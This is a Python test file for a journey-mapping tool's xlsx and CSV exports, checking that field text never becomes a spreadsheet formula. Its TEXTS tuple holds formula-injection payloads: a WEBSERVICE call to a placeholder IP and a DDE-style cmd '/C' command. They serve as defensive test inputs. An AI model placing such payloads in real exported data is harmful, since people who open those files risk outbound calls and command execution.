"""A text that spreadsheets would calculate or follow, in every field of a map: in no export is it more than a text."""
import csv
import re
import zipfile
from pathlib import Path

import pytest

from journeymapper.app.main import main
from journeymapper.core.foundation.csv_text import read_csv
from journeymapper.core.persistence.codec import decode, encode
from tests.support.everywhere import filled
from tests.support.paths import SAMPLE

WORD = "Qanariquex"
TEXTS = (f'=WEBSERVICE("http://192.0.2.7/{WORD}")', f"@SUM(1)*cmd|'/C {WORD}'!A0", f"+{WORD}", f"-{WORD}",
         f"\t={WORD}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    turn = iter(range(1_000_000))
    path = tmp_path_factory.mktemp("formulas") / "a.journey"
    path.write_bytes(encode(filled(decode(SAMPLE.read_bytes()).records, lambda: TEXTS[next(turn) % len(TEXTS)])))
    return path


def test_no_text_becomes_a_formula_a_link_or_a_name_in_the_workbook(hostile: Path) -> None:
    out = hostile.with_name("o.xlsx")
    assert main(["export", str(hostile), str(out)]) == 0
    with zipfile.ZipFile(out) as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()
                 if name.endswith((".xml", ".rels"))}
    assert sum(WORD in text for text in parts.values()) > 1
    for name, text in parts.items():
        for inner in re.findall(r"<f\b[^>]*>(.*?)</f>|<definedName\b[^>]*>(.*?)</definedName>"
                                r"|<formula[12]?>(.*?)</formula[12]?>", text, re.DOTALL):
            assert WORD not in "".join(inner), name
        assert WORD not in text or not name.endswith(".rels"), name
        assert not re.search(r'TargetMode="External"[^>]*192\.0\.2\.7', text), name


@pytest.mark.parametrize("suffix", ["jira.csv", "azure.csv"])
def test_no_cell_of_a_csv_begins_a_formula(hostile: Path, suffix: str) -> None:
    out = hostile.with_name(f"o.{suffix}")
    assert main(["export", str(hostile), str(out), "--all"]) == 0
    rows = list(csv.reader(out.read_text("utf-8-sig").splitlines(keepends=True)))
    assert any(WORD in cell for row in rows for cell in row)
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert any(cell.startswith("=") for row in read_csv(out) for cell in row), "our own reader takes the guard off"
